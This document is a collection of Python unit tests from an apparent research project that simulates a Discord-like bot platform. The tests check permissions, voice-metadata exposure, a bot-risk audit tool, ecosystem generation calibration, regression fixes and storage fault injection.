        base = Url.parse("https://a.sim/x")
        joined = base.join("?page=2")
        assert joined.host == "a.sim"
        assert joined.query == "page=2"


class TestUrlQuery:
    def test_query_params_decoding(self):
        url = Url.parse("https://a.sim/?a=1&b=two&empty=")
        assert url.query_params() == {"a": "1", "b": "two", "empty": ""}

    def test_with_params_merges(self):
        url = Url.parse("https://a.sim/?a=1")
        merged = url.with_params(b="2")
        assert merged.query_params() == {"a": "1", "b": "2"}

    def test_with_params_overrides(self):
        url = Url.parse("https://a.sim/?a=1")
        assert url.with_params(a="9").query_params()["a"] == "9"

    def test_origin(self):
        assert Url.parse("https://a.sim:444/x").origin() == "https://a.sim:444"


class TestHeaders:
    def test_case_insensitive_get(self):
        headers = Headers({"Content-Type": "text/html"})
        assert headers["content-type"] == "text/html"
        assert headers.get("CONTENT-TYPE") == "text/html"

    def test_set_preserves_last_casing(self):
        headers = Headers()
        headers["X-Thing"] = "1"
        headers["x-thing"] = "2"
        assert headers["X-THING"] == "2"
        assert len(headers) == 1

    def test_contains_and_delete(self):
        headers = Headers({"A": "1"})
        assert "a" in headers
        del headers["A"]
        assert "a" not in headers

    def test_copy_is_independent(self):
        headers = Headers({"A": "1"})
        clone = headers.copy()
        clone["A"] = "2"
        assert headers["A"] == "1"

    def test_get_default(self):
        assert Headers().get("missing", "x") == "x"


class TestRequest:
    def test_param_reads_query(self):
        request = Request("GET", Url.parse("https://a.sim/?page=3"))
        assert request.param("page") == "3"
        assert request.param("missing", "1") == "1"

    def test_cookie_parsing(self):
        request = Request("GET", Url.parse("https://a.sim/"), headers=Headers({"Cookie": "a=1; b=2"}))
        assert request.cookie("a") == "1"
        assert request.cookie("b") == "2"
        assert request.cookie("c") is None


class TestResponse:
    def test_ok_range(self):
        assert Response(200).ok
        assert Response(204).ok
        assert not Response(404).ok

    def test_redirect_requires_location(self):
        assert not Response(302).is_redirect
        assert Response.redirect("/x").is_redirect

    def test_html_helper_sets_content_type(self):
        assert Response.html("<p>x</p>").content_type == "text/html"

    def test_reason_phrases(self):
        assert Response(429).reason == "Too Many Requests"
        assert Response(599).reason == "Unknown"

    def test_set_cookie(self):
        response = Response.text("x")
        response.set_cookie("session", "abc")
        assert response.headers["Set-Cookie"] == "session=abc"
