"""Tests for voice sessions and voice-metadata visibility."""

import pytest

from repro.discordsim.guild import PermissionDenied, UnknownEntityError
from repro.discordsim.models import ChannelType
from repro.discordsim.permissions import Permission, PermissionOverwrite, Permissions
from repro.discordsim.voice import VoiceManager


@pytest.fixture
def voice_world(platform):
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "G")
    voice_channel = next(
        channel for channel in guild.channels.values() if channel.type is ChannelType.VOICE
    )
    manager = VoiceManager(platform)
    return platform, owner, guild, voice_channel, manager


def _member(platform, guild, name):
    user = platform.create_user(name)
    platform.join_guild(user.user_id, guild.guild_id)
    return user


class TestSessions:
    def test_join_and_occupancy(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        assert [state.user_id for state in manager.occupants(guild.guild_id, channel.channel_id)] == [
            user.user_id
        ]

    def test_cannot_join_text_channel(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        text = guild.text_channels()[0]
        with pytest.raises(PermissionDenied):
            manager.join(guild.guild_id, owner.user_id, text.channel_id)

    def test_join_requires_connect(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(target_id=user.user_id, deny=Permissions.of(Permission.CONNECT)),
        )
        with pytest.raises(PermissionDenied):
            manager.join(guild.guild_id, user.user_id, channel.channel_id)

    def test_speak_accumulates_and_logs(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        state = manager.join(guild.guild_id, user.user_id, channel.channel_id)
        manager.speak(guild.guild_id, user.user_id, seconds=12.0)
        assert state.speak_seconds == 12.0
        events = manager.metadata[guild.guild_id]
        assert [event.kind for event in events] == ["join", "speak"]
        assert events[-1].duration == 12.0

    def test_muted_user_cannot_speak(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        manager.mute(guild.guild_id, owner.user_id, user.user_id)
        with pytest.raises(PermissionDenied):
            manager.speak(guild.guild_id, user.user_id, 1.0)

    def test_mute_requires_permission(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        rando = _member(platform, guild, "r")
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        with pytest.raises(PermissionDenied):
            manager.mute(guild.guild_id, rando.user_id, user.user_id)

    def test_leave_logged(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        manager.leave(guild.guild_id, user.user_id)
        assert manager.occupants(guild.guild_id, channel.channel_id) == []
        assert manager.metadata[guild.guild_id][-1].kind == "leave"

    def test_rejoin_switches_channels(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        second = guild.create_channel("voice-2", ChannelType.VOICE)
        user = _member(platform, guild, "u")
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        manager.join(guild.guild_id, user.user_id, second.channel_id)
        kinds = [event.kind for event in manager.metadata[guild.guild_id]]
        assert kinds == ["join", "leave", "join"]

    def test_speak_requires_session(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        with pytest.raises(UnknownEntityError):
            manager.speak(guild.guild_id, user.user_id, 1.0)


class TestMetadataVisibility:
    def test_admin_bot_sees_everything(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        manager.speak(guild.guild_id, user.user_id, 5.0)
        bot = platform.create_user("SpyBot")
        bot.is_bot = True
        guild.add_member(bot)
        role = guild.create_role("bot", Permissions.administrator(), managed=True)
        guild.members[bot.user_id].role_ids.append(role.role_id)
        events = manager.voice_metadata(guild.guild_id, bot.user_id)
        assert len(events) == 2  # join + speak: full exposure

    def test_channel_denied_observer_sees_nothing(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        user = _member(platform, guild, "u")
        observer = _member(platform, guild, "observer")
        guild.set_channel_overwrite(
            owner.user_id,
            channel.channel_id,
            PermissionOverwrite(target_id=observer.user_id, deny=Permissions.of(Permission.VIEW_CHANNEL)),
        )
        manager.join(guild.guild_id, user.user_id, channel.channel_id)
        assert manager.voice_metadata(guild.guild_id, observer.user_id) == []

    def test_non_member_rejected(self, voice_world):
        platform, owner, guild, channel, manager = voice_world
        outsider = platform.create_user("out")
        with pytest.raises(PermissionDenied):
            manager.voice_metadata(guild.guild_id, outsider.user_id)
