"""Tests for the guild guardian audit tool."""

import pytest

from repro.core.guardian import GuildGuardian
from repro.discordsim.behaviors import BENIGN, build_runtime
from repro.discordsim.oauth import build_invite_url
from repro.discordsim.permissions import Permission, Permissions
from repro.web.captcha import TwoCaptchaClient


def _install(platform, owner, guild, name, permissions):
    developer = platform.create_user(f"dev-{name}", phone_verified=True)
    application = platform.register_application(developer, name)
    url = build_invite_url(application.client_id, permissions)
    screen = platform.begin_install(owner.user_id, url, guild.guild_id)
    answer = TwoCaptchaClient(platform.clock, accuracy=1.0).solve(screen.captcha_prompt)
    platform.complete_install(owner.user_id, guild.guild_id, url, screen.captcha_challenge_id, answer)
    return application


@pytest.fixture
def audited_world(platform):
    owner = platform.create_user("owner", phone_verified=True)
    guild = platform.create_guild(owner, "audited-guild")
    return platform, owner, guild


class TestGuardian:
    def test_empty_guild(self, audited_world):
        platform, owner, guild = audited_world
        report = GuildGuardian(platform).audit_guild(guild.guild_id)
        assert report.audits == []
        assert "no bots installed" in report.render()

    def test_admin_bot_flagged_high_risk(self, audited_world):
        platform, owner, guild = audited_world
        _install(platform, owner, guild, "AdminBot", Permissions.of(Permission.ADMINISTRATOR, Permission.SEND_MESSAGES))
        report = GuildGuardian(platform).audit_guild(guild.guild_id)
        audit = report.audits[0]
        assert audit.is_high_risk and audit.risk == 1.0
        assert audit.redundant_with_admin == ("send messages",)
        assert report.high_risk_bots == [audit]

    def test_modest_bot_low_risk(self, audited_world):
        platform, owner, guild = audited_world
        _install(platform, owner, guild, "PingBot", Permissions.of(Permission.SEND_MESSAGES))
        audit = GuildGuardian(platform).audit_guild(guild.guild_id).audits[0]
        assert not audit.is_high_risk
        assert audit.redundant_with_admin == ()

    def test_data_exposure_reported(self, audited_world):
        platform, owner, guild = audited_world
        _install(
            platform,
            owner,
            guild,
            "ReaderBot",
            Permissions.of(Permission.VIEW_CHANNEL, Permission.READ_MESSAGE_HISTORY),
        )
        audit = GuildGuardian(platform).audit_guild(guild.guild_id).audits[0]
        assert "message content" in audit.data_exposure
        assert "message history" in audit.data_exposure

    def test_unused_grants_detected(self, audited_world):
        platform, owner, guild = audited_world
        application = _install(
            platform,
            owner,
            guild,
            "ModBot",
            Permissions.of(Permission.SEND_MESSAGES, Permission.KICK_MEMBERS, Permission.BAN_MEMBERS),
        )
        runtime = build_runtime(platform, application.bot_user.user_id, BENIGN)
        channel = guild.text_channels()[0]
        platform.post_message(owner.user_id, guild.guild_id, channel.channel_id, "!ping")

        guardian = GuildGuardian(platform)
        guardian.register_api_client(runtime.api)
        audit = guardian.audit_guild(guild.guild_id).audits[0]
        # It replied (send used) but never kicked/banned.
        assert Permission.SEND_MESSAGES in audit.permissions_exercised
        assert "kick members" in audit.granted_but_unused
        assert "ban members" in audit.granted_but_unused
        assert "send messages" not in audit.granted_but_unused

    def test_render_orders_by_risk(self, audited_world):
        platform, owner, guild = audited_world
        _install(platform, owner, guild, "SmallBot", Permissions.of(Permission.SEND_MESSAGES))
        _install(platform, owner, guild, "BigBot", Permissions.of(Permission.ADMINISTRATOR))
        text = GuildGuardian(platform).audit_guild(guild.guild_id).render()
        assert text.index("BigBot") < text.index("SmallBot")
