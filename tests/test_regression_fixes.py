"""Regression tests for the bug cluster fixed alongside the process pool.

Each class pins one defect that silently corrupted accounting or protocol
behaviour:

* ``Retry-After`` rounded to nearest, so sub-0.5s hints emitted ``0`` — a
  busy-spin invitation the admission queue's own ``min_retry_after``
  exists to prevent.
* ``Bulkhead.release_last`` shrank whichever lease happened to be newest,
  so two interleaved requests released each other's slots.
* Index-based fault-ledger marks broke the moment the bounded ring
  trimmed: ``del records[:excess]`` shifts every index, and a later slice
  shipped pre-stage records as the stage's delta.
* ``merge_in_order`` silently dropped bots absent from ``by_key``.
* ``LatencyReservoir.percentile`` boundary behaviour (p=0, p=100, exact
  interpolation) guards the p50/p99 numbers ops dashboards alert on.
"""

from __future__ import annotations

import pytest

from repro.core.resilience import FaultLedger
from repro.core.sharding import ShardOutcome, merge_in_order
from repro.core.supervision import AccountingError, QuarantineRecord
from repro.serving.admission import AdmissionQueue, Bulkhead
from repro.serving.metrics import LatencyReservoir
from repro.serving.service import retry_after_header


class TestRetryAfterHeader:
    def test_sub_second_hint_never_becomes_zero(self):
        assert retry_after_header(0.2) == "1"
        assert retry_after_header(0.49) == "1"

    def test_fractional_seconds_round_up_not_nearest(self):
        assert retry_after_header(1.2) == "2"
        assert retry_after_header(59.01) == "60"

    def test_whole_seconds_pass_through(self):
        assert retry_after_header(5.0) == "5"

    def test_floor_applies_to_zero_and_negative(self):
        assert retry_after_header(0.0) == "1"
        assert retry_after_header(-3.0) == "1"

    def test_queue_min_retry_after_survives_the_header(self):
        """End-to-end: a shed decision's sub-second hint is still >= 1s."""
        queue = AdmissionQueue(capacity=1)
        queue.admit(0.0)
        queue.settle(0.3)
        shed = queue.admit(0.0)
        assert shed is not None
        assert int(retry_after_header(shed.retry_after)) >= 1


class TestBulkheadLeaseIdentity:
    def test_interleaved_releases_shrink_the_right_lease(self):
        """Request A (long) and B (short) interleave: B finishing early must
        shrink B's lease, not A's — the old release_last shrank whichever
        acquire happened most recently."""
        bulkhead = Bulkhead(stage="honeypot", limit=2)
        lease_a = bulkhead.acquire(0.0, cost=100.0, max_wait=0.0)
        lease_b = bulkhead.acquire(0.0, cost=50.0, max_wait=0.0)
        bulkhead.release(lease_b, 10.0)
        assert lease_b.expiry == 10.0
        assert lease_a.expiry == 100.0
        # A slot is genuinely free at t=20 now that B drained at 10.
        lease_c = bulkhead.acquire(20.0, cost=5.0, max_wait=0.0)
        assert lease_c.start == 20.0

    def test_release_never_grows_a_lease(self):
        bulkhead = Bulkhead(stage="code", limit=1)
        lease = bulkhead.acquire(0.0, cost=10.0, max_wait=0.0)
        bulkhead.release(lease, 500.0)
        assert lease.expiry == 10.0

    def test_queued_acquire_starts_at_freed_slot(self):
        bulkhead = Bulkhead(stage="traceability", limit=1)
        first = bulkhead.acquire(0.0, cost=30.0, max_wait=0.0)
        second = bulkhead.acquire(5.0, cost=10.0, max_wait=60.0)
        assert second.start == first.expiry == 30.0
        assert second.expiry == 40.0


class TestTrimmedLedgerMarks:
    def test_mark_survives_ring_trim(self):
        ledger = FaultLedger(max_records=4)
        for index in range(3):
            ledger.record("stage", "host", "Boom", float(index))
        mark = ledger.mark()
        for index in range(3, 9):
            ledger.record("stage", "host", "Boom", float(index))
        since = ledger.records_since(mark)
        # Records 3..8 landed after the mark; the ring keeps the last 4 of
        # them — but never resurfaces records 0..2 from before the mark.
        assert all(record.virtual_time >= 3.0 for record in since)
        assert len(since) == 4
        assert ledger.drop_offset == 5

    def test_mark_before_any_trim_behaves_like_index(self):
        ledger = FaultLedger()
        mark = ledger.mark()
        ledger.record("stage", "host", "Boom", 1.0)
        assert [record.virtual_time for record in ledger.records_since(mark)] == [1.0]

    def test_serialization_round_trips_drop_offset(self):
        ledger = FaultLedger(max_records=2)
        for index in range(5):
            ledger.record("stage", "host", "Boom", float(index))
        clone = FaultLedger.from_dict(ledger.to_dict())
        assert clone.drop_offset == ledger.drop_offset == 3
        assert clone.mark() == ledger.mark()


class TestLoudMerge:
    @staticmethod
    def _outcome(values, quarantines=(), shard_index=0):
        return ShardOutcome(
            shard_index=shard_index,
            items=[],
            value=values,
            wall_seconds=0.0,
            virtual_seconds=0.0,
            exchanges=0,
            quarantines=list(quarantines),
        )

    @staticmethod
    def _item(name):
        class Item:
            def __init__(self, bot_name):
                self.bot_name = bot_name

        return Item(name)

    def test_unexplained_missing_bot_raises(self):
        outcomes = [self._outcome([self._item("a")])]
        with pytest.raises(AccountingError, match="merge lost 1 bot"):
            merge_in_order(outcomes, ["a", "b"], key=lambda item: item.bot_name, what="test merge")

    def test_quarantined_bot_may_be_missing(self):
        record = QuarantineRecord(
            stage="stage", bot_name="b", reason="crash", root_cause="Boom", virtual_time=0.0
        )
        outcomes = [self._outcome([self._item("a")], quarantines=[record])]
        merged = merge_in_order(outcomes, ["a", "b"], key=lambda item: item.bot_name)
        assert [item.bot_name for item in merged] == ["a"]

    def test_skip_budget_covers_missing_bots(self):
        ledger = FaultLedger()
        ledger.record("stage", "host", "Dead", 0.0, bots_skipped=1)
        outcome = self._outcome([self._item("a")])
        outcome.faults = list(ledger.records)
        merged = merge_in_order([outcome], ["a", "b"], key=lambda item: item.bot_name)
        assert [item.bot_name for item in merged] == ["a"]


class TestLatencyReservoirBoundaries:
    def test_empty_reservoir_is_zero(self):
        assert LatencyReservoir().percentile(50) == 0.0

    def test_single_sample_is_every_percentile(self):
        reservoir = LatencyReservoir()
        reservoir.record(7.5)
        assert reservoir.percentile(0) == 7.5
        assert reservoir.percentile(50) == 7.5
        assert reservoir.percentile(100) == 7.5

    def test_p0_and_p100_hit_the_extremes(self):
        reservoir = LatencyReservoir()
        for value in (5.0, 1.0, 9.0, 3.0):
            reservoir.record(value)
        assert reservoir.percentile(0) == 1.0
        assert reservoir.percentile(100) == 9.0

    def test_linear_interpolation_between_ranks(self):
        reservoir = LatencyReservoir()
        for value in (10.0, 20.0):
            reservoir.record(value)
        assert reservoir.percentile(50) == pytest.approx(15.0)
        assert reservoir.percentile(25) == pytest.approx(12.5)

    def test_percentile_does_not_mutate_order(self):
        reservoir = LatencyReservoir()
        for value in (3.0, 1.0, 2.0):
            reservoir.record(value)
        reservoir.percentile(99)
        assert list(reservoir.samples) == [3.0, 1.0, 2.0]
