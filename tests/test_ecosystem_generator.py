"""Tests for ecosystem generation: calibration, determinism, the plant."""

import collections

import pytest

from repro.discordsim import behaviors
from repro.discordsim.permissions import Permission
from repro.ecosystem.distributions import DEFAULT_TARGETS
from repro.ecosystem.generator import (
    BotProfile,
    EcosystemConfig,
    InviteStatus,
    generate_ecosystem,
)
from repro.ecosystem.repos import RepoKind


@pytest.fixture(scope="module")
def ecosystem():
    return generate_ecosystem(EcosystemConfig(n_bots=3000, seed=7, honeypot_window=300))


class TestDeterminism:
    def test_same_seed_same_population(self):
        a = generate_ecosystem(EcosystemConfig(n_bots=100, seed=5))
        b = generate_ecosystem(EcosystemConfig(n_bots=100, seed=5))
        assert [bot.name for bot in a.bots] == [bot.name for bot in b.bots]
        assert [bot.permissions.value for bot in a.bots] == [bot.permissions.value for bot in b.bots]

    def test_different_seed_differs(self):
        a = generate_ecosystem(EcosystemConfig(n_bots=100, seed=5))
        b = generate_ecosystem(EcosystemConfig(n_bots=100, seed=6))
        assert [bot.name for bot in a.bots] != [bot.name for bot in b.bots]


class TestCalibration:
    def test_population_size(self, ecosystem):
        assert len(ecosystem.bots) == 3000

    def test_valid_permission_fraction_near_74(self, ecosystem):
        fraction = len(ecosystem.with_valid_permissions()) / len(ecosystem.bots)
        assert abs(fraction - 0.742) < 0.03

    def test_administrator_rate_near_5486(self, ecosystem):
        valid = ecosystem.with_valid_permissions()
        rate = sum(1 for bot in valid if bot.permissions.has_exactly(Permission.ADMINISTRATOR)) / len(valid)
        assert abs(rate - 0.5486) < 0.035

    def test_send_messages_rate_near_5918(self, ecosystem):
        valid = ecosystem.with_valid_permissions()
        rate = sum(1 for bot in valid if bot.permissions.has_exactly(Permission.SEND_MESSAGES)) / len(valid)
        assert abs(rate - 0.5918) < 0.035

    def test_website_fraction_near_3727(self, ecosystem):
        fraction = len(ecosystem.websites()) / len(ecosystem.bots)
        assert abs(fraction - 0.3727) < 0.035

    def test_github_fraction_near_2386(self, ecosystem):
        fraction = len(ecosystem.github_linked()) / len(ecosystem.bots)
        assert abs(fraction - 0.2386) < 0.03

    def test_policy_rate_near_435(self, ecosystem):
        fraction = sum(1 for bot in ecosystem.bots if bot.policy.present) / len(ecosystem.bots)
        assert abs(fraction - 0.0435) < 0.015

    def test_developer_distribution_shape(self, ecosystem):
        counts = collections.Counter(dev.bot_count for dev in ecosystem.developers.values())
        total = sum(counts.values())
        assert counts[1] / total > 0.8  # ~89% publish one bot

    def test_no_complete_policies(self, ecosystem):
        for bot in ecosystem.bots:
            assert bot.policy.expected_class != "complete"

    def test_invalid_invite_breakdown_present(self, ecosystem):
        statuses = collections.Counter(bot.invite_status for bot in ecosystem.bots)
        assert statuses[InviteStatus.MALFORMED] > 0
        assert statuses[InviteStatus.REMOVED] > 0
        assert statuses[InviteStatus.SLOW_REDIRECT] > 0

    def test_language_shares(self, ecosystem):
        with_code = [bot for bot in ecosystem.bots if bot.github and bot.github.has_source_code]
        languages = collections.Counter(bot.github.language for bot in with_code)
        js = languages["JavaScript"] / len(with_code)
        py = languages["Python"] / len(with_code)
        assert abs(js - 0.44) < 0.08  # 0.41 of valid repos ≈ 0.44 of code repos
        assert abs(py - 0.34) < 0.08


class TestMelonianPlant:
    def test_exactly_one_invasive_in_window(self, ecosystem):
        window = ecosystem.top_voted(300)
        invasive = [bot for bot in window if bot.is_invasive]
        assert len(invasive) == 1
        assert invasive[0].name == "Melonian"

    def test_melonian_installable_and_readable(self, ecosystem):
        melonian = ecosystem.bot_by_name("Melonian")
        assert melonian.invite_status is InviteStatus.VALID
        assert melonian.permissions.has(Permission.READ_MESSAGE_HISTORY)
        assert melonian.guild_count <= 30  # "present in a few guilds"


class TestProfiles:
    def test_invite_url_valid_bots_parse(self, ecosystem):
        from repro.discordsim.oauth import parse_invite_url

        bot = ecosystem.with_valid_permissions()[0]
        invite = parse_invite_url(bot.invite_url)
        assert invite.client_id == bot.client_id
        assert invite.permissions == bot.permissions

    def test_malformed_invite_urls_do_not_parse(self, ecosystem):
        from repro.discordsim.oauth import InviteLinkError, parse_invite_url

        malformed = [bot for bot in ecosystem.bots if bot.invite_status is InviteStatus.MALFORMED]
        with pytest.raises(InviteLinkError):
            parse_invite_url(malformed[0].invite_url)

    def test_client_ids_unique(self, ecosystem):
        ids = [bot.client_id for bot in ecosystem.bots]
        assert len(set(ids)) == len(ids)

    def test_sorted_by_votes(self, ecosystem):
        votes = [bot.votes for bot in ecosystem.bots]
        assert votes == sorted(votes, reverse=True)

    def test_github_url_shapes(self, ecosystem):
        for bot in ecosystem.github_linked()[:200]:
            assert bot.github_url.startswith("https://github.sim/")
            if bot.github.kind is RepoKind.USER_PROFILE:
                assert bot.github_url.count("/") == 3  # profile link, no repo path

    def test_policy_text_only_when_valid_link(self, ecosystem):
        for bot in ecosystem.bots:
            if bot.policy_text:
                assert bot.policy.present and bot.policy.link_valid
