"""Unit tests for the unified durable-storage layer.

Covers the primitives (`atomic_write_json`, `DurableAppendFile`), the
fault-injection shim (one-shot faults, seeded schedules, env arming), the
scrub-on-load recovery manager, the persisted serving state, and the
single-implementation lint: no durability syscalls outside
``repro/core/storage.py``.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from repro.core.resilience import FaultLedger
from repro.core.storage import (
    ENV_DISK_FAULT,
    ENV_DISK_RECORD,
    FAULT_KINDS_BY_OP,
    STORAGE_ARTIFACTS,
    STORAGE_PROFILES,
    STORAGE_SITES,
    ArtifactCorruptionError,
    DiskFullError,
    DiskIOError,
    DurableAppendFile,
    FaultyIO,
    OneShotFault,
    RecoveryManager,
    StorageError,
    StorageFaultSchedule,
    active_faults,
    atomic_write_json,
    install_disk_chaos,
    install_faults,
    matrix_cells,
    parse_disk_fault,
    payload_checksum,
    quarantine_artifact,
    resolve_storage_profile,
    stale_tmp_path,
    storage_sites,
    uninstall_faults,
)


# -- registry ----------------------------------------------------------------


def test_site_registry_is_complete():
    sites = storage_sites()
    assert len(sites) == len(set(sites)) == sum(len(ops) for ops in STORAGE_ARTIFACTS.values())
    assert STORAGE_SITES == frozenset(sites)
    for artifact, ops in STORAGE_ARTIFACTS.items():
        for op in ops:
            assert f"{artifact}.{op}" in STORAGE_SITES
            assert FAULT_KINDS_BY_OP[op]


def test_matrix_cells_cover_every_site_and_kind():
    cells = matrix_cells()
    assert len(cells) == len(set(cells))
    for site, kind in cells:
        assert site in STORAGE_SITES
        op = site.rsplit(".", 1)[1]
        assert kind in FAULT_KINDS_BY_OP[op]
    # Every site appears with every kind its op allows.
    by_site: dict[str, set[str]] = {}
    for site, kind in cells:
        by_site.setdefault(site, set()).add(kind)
    for site, kinds in by_site.items():
        assert kinds == set(FAULT_KINDS_BY_OP[site.rsplit(".", 1)[1]])


def test_one_shot_fault_validation():
    with pytest.raises(ValueError, match="unknown storage site"):
        OneShotFault("nosuch.write", "enospc")
    with pytest.raises(ValueError, match="does not apply"):
        OneShotFault("journal.write", "rot")
    with pytest.raises(ValueError, match="1-based"):
        OneShotFault("journal.write", "enospc", occurrence=0)
    fault = OneShotFault("journal.write", "enospc", occurrence=3)
    assert fault.decide("journal.write", 2) is None
    assert fault.decide("journal.write", 3) == "enospc"
    assert fault.decide("journal.write", 4) is None
    assert fault.decide("spill.write", 3) is None


def test_parse_disk_fault():
    fault = parse_disk_fault("checkpoint.rename:zero")
    assert (fault.site, fault.kind, fault.occurrence) == ("checkpoint.rename", "zero", 1)
    fault = parse_disk_fault("journal.fsync:lost:7")
    assert fault.occurrence == 7
    with pytest.raises(ValueError):
        parse_disk_fault("journal.fsync")
    with pytest.raises(ValueError):
        parse_disk_fault("journal.fsync:lost:x")


# -- profiles and schedules --------------------------------------------------


def test_profiles_resolve_and_calm_is_silent():
    assert resolve_storage_profile("hostile").name == "hostile"
    profile = resolve_storage_profile(STORAGE_PROFILES["torn"])
    assert profile is STORAGE_PROFILES["torn"]
    with pytest.raises(ValueError, match="unknown disk-chaos profile"):
        resolve_storage_profile("raid0")
    calm = StorageFaultSchedule("calm", seed=1)
    for site in storage_sites():
        assert all(calm.decide(site, count) is None for count in range(1, 50))


def test_schedule_is_seed_deterministic():
    first = StorageFaultSchedule("hostile", seed=11)
    second = StorageFaultSchedule("hostile", seed=11)
    other = StorageFaultSchedule("hostile", seed=12)
    decisions = [first.decide("journal.fsync", count) for count in range(1, 2_000)]
    assert decisions == [second.decide("journal.fsync", count) for count in range(1, 2_000)]
    assert any(kind is not None for kind in decisions)  # hostile actually bites
    assert decisions != [other.decide("journal.fsync", count) for count in range(1, 2_000)]


def test_profile_scaled_overrides_one_knob():
    quiet = STORAGE_PROFILES["hostile"].scaled(rot_rate=0.0)
    assert quiet.rot_rate == 0.0
    assert quiet.enospc_rate == STORAGE_PROFILES["hostile"].enospc_rate


# -- the shim ----------------------------------------------------------------


def test_faulty_io_rejects_unregistered_sites():
    shim = FaultyIO()
    with pytest.raises(RuntimeError, match="unregistered storage site"):
        shim.consult("checkpoint.compress")


def test_faulty_io_records_first_consult_per_site(tmp_path):
    record = tmp_path / "sites.txt"
    shim = install_faults(None, record_path=record)
    shim.consult("journal.write")
    shim.consult("journal.write")
    shim.consult("spill.fsync")
    assert record.read_text().splitlines() == ["journal.write", "spill.fsync"]


def test_env_arming_mirrors_crashpoints(tmp_path, monkeypatch):
    record = tmp_path / "consulted.txt"
    monkeypatch.setenv(ENV_DISK_FAULT, "checkpoint.write:enospc:2")
    monkeypatch.setenv(ENV_DISK_RECORD, str(record))
    uninstall_faults()
    shim = active_faults()
    assert shim is not None
    assert shim.consult("checkpoint.write") is None
    assert shim.consult("checkpoint.write") == "enospc"
    assert shim.injected == [("checkpoint.write", "enospc")]
    assert record.read_text().splitlines() == ["checkpoint.write"]


def test_install_disk_chaos_replaces_active_plan():
    shim = install_disk_chaos("bitrot", seed=3)
    assert active_faults() is shim
    assert isinstance(shim.plan, StorageFaultSchedule)
    uninstall_faults()
    assert active_faults() is None


# -- atomic_write_json -------------------------------------------------------


def test_atomic_write_happy_path(tmp_path):
    target = tmp_path / "doc.json"
    atomic_write_json(target, {"a": 1}, label="checkpoint")
    assert json.loads(target.read_text()) == {"a": 1}
    assert not stale_tmp_path(target).exists()


@pytest.mark.parametrize(
    "site,kind,expected",
    [
        ("checkpoint.write", "enospc", DiskFullError),
        ("checkpoint.write", "short", DiskIOError),
        ("checkpoint.fsync", "eio", DiskIOError),
        ("checkpoint.rename", "eio", DiskIOError),
    ],
)
def test_atomic_write_faults_preserve_previous_version(tmp_path, site, kind, expected):
    target = tmp_path / "doc.json"
    atomic_write_json(target, {"generation": 1}, label="checkpoint")
    install_faults(OneShotFault(site, kind))
    with pytest.raises(expected):
        atomic_write_json(target, {"generation": 2}, label="checkpoint")
    # Typed failure, and the previous version still reads back intact.
    assert json.loads(target.read_text()) == {"generation": 1}


def test_atomic_write_lost_fsync_publishes_empty_file(tmp_path):
    target = tmp_path / "doc.json"
    install_faults(OneShotFault("checkpoint.fsync", "lost"))
    atomic_write_json(target, {"generation": 1}, label="checkpoint")
    # The rename landed but the data blocks never did.
    assert target.read_bytes() == b""


def test_atomic_write_rot_breaks_the_checksum(tmp_path):
    target = tmp_path / "state.json"
    payload = {"version": 1, "checksum": "", "state": {"x": 2}}
    payload["checksum"] = payload_checksum(payload)
    install_faults(OneShotFault("serving.state.settle", "rot"))
    atomic_write_json(target, payload, label="serving.state")
    scrubber = RecoveryManager()
    assert scrubber.scrub_json_artifact(target, artifact="serving.state") is None
    assert scrubber.actions and not target.exists()
    assert target.with_name(target.name + ".corrupt").exists()


def test_atomic_write_crash_hook_runs_between_fsync_and_rename(tmp_path):
    target = tmp_path / "doc.json"
    seen = {}

    def hook():
        seen["tmp"] = stale_tmp_path(target).exists()
        seen["target"] = target.exists()

    atomic_write_json(target, {"a": 1}, label="checkpoint", crash_hook=hook)
    assert seen == {"tmp": True, "target": False}


# -- DurableAppendFile -------------------------------------------------------


def test_append_file_fsync_every_record(tmp_path):
    log = DurableAppendFile(tmp_path / "log", label="journal", fsync_every=1)
    log.write(b"one\n")
    log.commit()
    log.write(b"two\n")
    log.commit()
    log.close()
    assert (tmp_path / "log").read_bytes() == b"one\ntwo\n"


def test_append_file_batched_cadence_syncs_on_the_nth_commit(tmp_path):
    consults = []
    original = StorageFaultSchedule("calm")
    shim = install_faults(original)
    log = DurableAppendFile(tmp_path / "log", label="journal", fsync_every=3)
    for record in (b"a\n", b"b\n", b"c\n", b"d\n"):
        log.write(record)
        log.commit()
    consults = shim.counts.get("journal.fsync", 0)
    # 4 commits at cadence 3 = exactly one fsync consultation.
    assert consults == 1
    log.sync()
    assert shim.counts["journal.fsync"] == 2
    log.close()


def test_append_file_short_write_is_typed_and_truncatable(tmp_path):
    path = tmp_path / "log"
    log = DurableAppendFile(path, label="spill", fsync_every=0)
    log.write(b'{"n": 1}\n')
    log.sync()
    install_faults(OneShotFault("spill.write", "short"))
    with pytest.raises(DiskIOError, match="short write"):
        log.write(b'{"n": 2}\n')
    log.close()
    # The torn tail is on disk; a restorer truncates back to the valid prefix.
    assert path.read_bytes().startswith(b'{"n": 1}\n')
    assert path.stat().st_size > len(b'{"n": 1}\n')
    fresh = DurableAppendFile(path, label="spill", fsync_every=0)
    fresh.truncate_to(len(b'{"n": 1}\n'))
    fresh.close()
    assert path.read_bytes() == b'{"n": 1}\n'


